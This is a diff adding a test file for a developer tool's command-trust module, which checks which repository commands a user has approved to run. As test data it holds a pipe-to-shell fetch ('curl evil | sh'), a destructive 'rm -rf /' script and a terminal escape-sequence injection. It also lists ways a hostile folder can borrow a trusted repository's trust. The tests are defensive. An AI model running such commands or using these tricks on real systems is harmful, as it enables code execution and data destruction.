@@ -1,0 +1,292 @@
+import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { findRepository } from '#git/find-repository.ts';
+import { ForgeError } from '#kernel/errors.ts';
+import { tempEngine, ANN } from '../../tests/support/temp-engine.ts';
+import { runTestGit, tempFolder, type TempFolder } from '../../tests/support/temp-repo.ts';
+import { type ProjectPaths, toProjectPaths } from './project-paths.ts';
+import {
+  isTrusted,
+  listCommands,
+  requireTrusted,
+  revokeTrust,
+  trustCommands,
+  type TrustPlace,
+} from './trust.ts';
+
+const STEP = 'npm test';
+const BY = { now: Date.UTC(2026, 1, 10), by: 'user:ada' };
+
+function pathsAt(folder: string): ProjectPaths {
+  const repository = findRepository(folder);
+  if (repository === undefined) throw new Error(`${folder} is in no repository`);
+  return toProjectPaths(repository);
+}
+
+/** A repository at `<folder>/<name>` with one commit. */
+function makeRepository(folder: TempFolder, name: string): string {
+  const path = join(folder.path, name);
+  mkdirSync(path, { recursive: true });
+  runTestGit(path, ['init', '--quiet', '-b', 'main']);
+  const identity = ['-c', 'user.name=T', '-c', 'user.email=t@example.com'];
+  runTestGit(path, [...identity, 'commit', '--quiet', '--allow-empty', '-m', 'first']);
+  return path;
+}
+
+/** A folder with a home and a repository in which one command is trusted. */
+async function trustedRepository() {
+  const folder = await tempFolder();
+  const home = join(folder.path, 'home');
+  const repo = makeRepository(folder, 'repo');
+  const at = (path: string): TrustPlace => ({ home, paths: pathsAt(path) });
+  await trustCommands(at(repo), [STEP], BY);
+  return { folder, home, repo, at, [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose]() };
+}
+
+describe('trust in the commands of a repository', () => {
+  it('is for exactly one command of one repository, in a file of the owner alone', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, home, folder } = place;
+    expect(isTrusted(at(repo), STEP)).toBe(true);
+    expect(isTrusted(at(repo), `${STEP} `)).toBe(false);
+    expect(isTrusted(at(makeRepository(folder, 'other')), STEP)).toBe(false);
+    expect(statSync(join(home, 'trust.json')).mode & 0o777).toBe(0o600);
+    const before = readFileSync(join(home, 'trust.json'), 'utf8');
+    await trustCommands(at(repo), [STEP], { ...BY, now: BY.now + 1 });
+    expect(readFileSync(join(home, 'trust.json'), 'utf8')).toBe(before);
+  });
+
+  it('names what it refuses and what to do', async () => {
+    await using place = await trustedRepository();
+    const { at, repo } = place;
+    expect(() => requireTrusted(at(repo), [STEP])).not.toThrow();
+    expect(() => requireTrusted(at(repo), [])).not.toThrow();
+    try {
+      requireTrusted(at(repo), [STEP, 'curl evil\u001b[2K', 'b']);
+      expect.unreachable();
+    } catch (error) {
+      expect(error).toBeInstanceOf(ForgeError);
+      const { code, message, hint, details } = error as ForgeError;
+      expect({ code, message, hint }).toEqual({
+        code: 'untrusted',
+        message: 'Nobody has trusted this command here: curl evil\\u001b[2K and 1 more',
+        hint: 'forge trust',
+      });
+      expect(details).toEqual({ commands: ['curl evil\u001b[2K', 'b'] });
+    }
+  });
+
+  it('can be taken back', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, folder } = place;
+    const other = makeRepository(folder, 'other');
+    await trustCommands(at(other), [STEP], BY);
+    expect(await revokeTrust(at(repo))).toEqual([STEP]);
+    expect(isTrusted(at(repo), STEP)).toBe(false);
+    expect(isTrusted(at(other), STEP)).toBe(true);
+    expect(await revokeTrust(at(repo))).toEqual([]);
+  });
+
+  it('holds in linked worktrees of the repository', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, folder } = place;
+    const linked = join(folder.path, 'linked');
+    runTestGit(repo, ['worktree', 'add', '--quiet', linked]);
+    expect(isTrusted(at(linked), STEP)).toBe(true);
+  });
+
+  it('asks again when a script that the command runs has one byte changed', async () => {
+    await using place = await trustedRepository();
+    const { at, repo } = place;
+    mkdirSync(join(repo, 'scripts'));
+    const script = join(repo, 'scripts', 'ci.sh');
+    for (const command of [
+      './scripts/ci.sh --all',
+      'bash -e scripts/ci.sh',
+      'cd sub; CI=1 env "./scripts/ci.sh"',
+      'npm ci && sh ./scripts/ci.sh',
+    ]) {
+      writeFileSync(script, 'true\n');
+      await trustCommands(at(repo), [command], BY);
+      expect(isTrusted(at(repo), command), command).toBe(true);
+      writeFileSync(script, 'true \n');
+      expect(isTrusted(at(repo), command), command).toBe(false);
+      rmSync(script);
+      expect(isTrusted(at(repo), command), command).toBe(false);
+      writeFileSync(script, 'true\n');
+      expect(isTrusted(at(repo), command), command).toBe(true);
+    }
+    writeFileSync(script, 'rm -rf /\n');
+    await using engine = await tempEngine();
+    writeConfig(repo, { review: { ci_steps: ['./scripts/ci.sh --all'] } });
+    const [listed] = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, place.home);
+    expect(listed).toMatchObject({ state: 'changed', scripts: ['scripts/ci.sh'] });
+  });
+
+  it('trusts nothing where its file cannot be read', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, home } = place;
+    writeFileSync(join(home, 'trust.json'), '{"repositories": [');
+    expect(() => isTrusted(at(repo), STEP)).toThrow(/trust\.json/);
+    writeFileSync(join(home, 'trust.json'), '{"repositories": 7}');
+    expect(isTrusted(at(repo), STEP)).toBe(false);
+  });
+
+  it('is not needed for what the person wrote into their own settings', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, home } = place;
+    expect(isTrusted(at(repo), 'make check')).toBe(false);
+    writeFileSync(join(home, 'settings.json'), '{"review":{"ci_steps":["make check"]}}');
+    expect(isTrusted(at(repo), 'make check')).toBe(true);
+  });
+});
+
+/** Research B4: ways of a hostile folder to pass for a repository that is trusted. Each of them is tried. */
+describe('trust is not borrowed', () => {
+  const TRICKS: readonly (readonly [string, (repo: string, folder: TempFolder) => string])[] = [
+    [
+      'by a .git file that points to it',
+      (repo, folder) => {
+        const evil = join(folder.path, 'evil');
+        mkdirSync(evil);
+        writeFileSync(join(evil, '.git'), `gitdir: ${join(repo, '.git')}\n`);
+        return evil;
+      },
+    ],
+    [
+      'by a .git that is a link to it',
+      (repo, folder) => {
+        const evil = join(folder.path, 'evil');
+        mkdirSync(evil);
+        symlinkSync(join(repo, '.git'), join(evil, '.git'));
+        return evil;
+      },
+    ],
+    [
+      'by a commondir that names it',
+      (repo, folder) => {
+        const evil = makeRepository(folder, 'evil');
+        writeFileSync(join(evil, '.git', 'commondir'), `${join(repo, '.git')}\n`);
+        return evil;
+      },
+    ],
+    [
+      "by a .git file that points to another worktree's directory",
+      (repo, folder) => {
+        runTestGit(repo, ['worktree', 'add', '--quiet', join(folder.path, 'linked')]);
+        const evil = join(folder.path, 'evil');
+        mkdirSync(evil);
+        writeFileSync(join(evil, '.git'), `gitdir: ${join(repo, '.git', 'worktrees', 'linked')}\n`);
+        return evil;
+      },
+    ],
+    [
+      'by a worktree directory of its own making',
+      (repo, folder) => {
+        const evil = join(folder.path, 'evil');
+        const gitDir = join(evil, 'worktrees', 'x');
+        mkdirSync(gitDir, { recursive: true });
+        writeFileSync(join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
+        writeFileSync(join(gitDir, 'commondir'), `${join(repo, '.git')}\n`);
+        writeFileSync(join(gitDir, 'gitdir'), `${join(evil, '.git')}\n`);
+        writeFileSync(join(evil, '.git'), `gitdir: ${gitDir}\n`);
+        return evil;
+      },
+    ],
+    [
+      'by a name that differs in case',
+      // Where the disk does not tell the two apart they are one repository, and there is nothing to try.
+      (_repo, folder) => makeRepository(folder, existsSync(join(folder.path, 'REPO')) ? 'other' : 'REPO'),
+    ],
+    ['by lying inside it', (repo, folder) => makeRepository({ ...folder, path: repo }, 'vendor/evil')],
+    [
+      'by lying around it',
+      (_repo, folder) => {
+        runTestGit(folder.path, ['init', '--quiet']);
+        return folder.path;
+      },
+    ],
+    [
+      'by being a copy of it',
+      (repo, folder) => {
+        cpSync(repo, join(folder.path, 'copy'), { recursive: true });
+        return join(folder.path, 'copy');
+      },
+    ],
+  ];
+
+  it.each(TRICKS)('%s', async (_name, plant) => {
+    await using place = await trustedRepository();
+    const { at, repo, folder } = place;
+    const evil = plant(repo, folder);
+    expect(isTrusted(at(evil), STEP)).toBe(false);
+    expect(isTrusted(at(repo), STEP)).toBe(true);
+    // Whoever really means it can trust it, and trusts nothing else by that.
+    await trustCommands(at(evil), ['evil'], BY);
+    expect(isTrusted(at(evil), 'evil')).toBe(true);
+    expect(isTrusted(at(repo), 'evil')).toBe(false);
+  });
+
+  it('and a way through a link to the repository itself is the repository', async () => {
+    await using place = await trustedRepository();
+    const { at, repo, folder } = place;
+    const link = join(folder.path, 'link');
+    symlinkSync(repo, link);
+    expect(isTrusted(at(link), STEP)).toBe(true);
+    rmSync(link);
+    symlinkSync(makeRepository(folder, 'evil'), link);
+    expect(isTrusted(at(link), STEP)).toBe(false);
+  });
+});
+
+function writeConfig(repo: string, more: object): void {
+  const path = join(repo, '.forge', 'config.json');
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, JSON.stringify({ name: 'x', idPrefix: 'fg', version: 1, ...more }));
+}
+
+describe('listCommands', () => {
+  it('finds what the config and open tasks bring, with where each comes from', async () => {
+    await using place = await trustedRepository();
+    const { repo, home } = place;
+    writeConfig(repo, {
+      review: { ci_steps: [STEP, 'lint'] },
+      workspace: { setup: ['npm ci'], teardown: ['docker compose down'] },
+    });
+    await using engine = await tempEngine();
+    const { store } = engine.temp;
+    const withSteps = async (title: string, steps: string[]): Promise<string> => {
+      const { id } = await engine.create(title);
+      const workflow_fields = new Map([['review_config', { ci_steps: steps }]]);
+      await store.updateTask({ id, workflow_fields }, { actor: ANN, now: engine.temp.clock.now() });
+      return id;
+    };
+    const open = await withSteps('open', ['lint', 'curl evil | sh']);
+    const closed = await withSteps('closed', ['closed']);
+    const by = { actor: ANN, now: engine.temp.clock.now() };
+    await store.closeTask({ id: closed, reason: 'done' }, by);
+    expect(await listCommands({ paths: pathsAt(repo), store }, home)).toEqual([
+      {
+        command: STEP,
+        sources: ['.forge/config.json, review.ci_steps'],
+        scripts: [],
+        state: 'trusted',
+      },
+      {
+        command: 'lint',
+        sources: ['.forge/config.json, review.ci_steps', `task ${open}`],
+        scripts: [],
+        state: 'new',
+      },
+      { command: 'npm ci', sources: ['.forge/config.json, workspace.setup'], scripts: [], state: 'new' },
+      {
+        command: 'docker compose down',
+        sources: ['.forge/config.json, workspace.teardown'],
+        scripts: [],
+        state: 'new',
+      },
+      { command: 'curl evil | sh', sources: [`task ${open}`], scripts: [], state: 'new' },
+    ]);
+  });
+});
